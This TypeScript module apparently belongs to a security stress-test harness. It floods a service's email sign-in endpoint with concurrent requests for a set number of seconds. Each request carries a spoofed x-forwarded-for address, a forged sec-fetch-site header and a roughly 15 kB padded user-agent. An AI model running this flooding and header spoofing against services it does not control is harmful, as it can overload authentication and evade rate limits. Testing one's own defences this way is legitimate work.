import { flood, post } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const AT_ONCE = 12
/** Each part could begin the name of a browser; 15 kB, nearly all that a request's headers may hold. */
const USER_AGENT = 'Version/1'.repeat(1_666)

/** Sign-ins with one free account, whose browser gives itself a long name. */
export async function attackHeaders({ url, seconds, account }: Attack): Promise<AttackFindings> {
  const { email, password, address, cookies } = account
  const headers = {
    'x-forwarded-for': address,
    'sec-fetch-site': 'same-origin',
    'user-agent': USER_AGENT,
    cookie: cookies.map(([name, value]) => `${name}=${value}`).join('; '),
  }
  const answers = await flood({ seconds, atOnce: AT_ONCE }, () =>
    post(`${url}/auth/v1/sign-in/email`, headers, { email, password }),
  )
  return { answers, counts: {} }
}
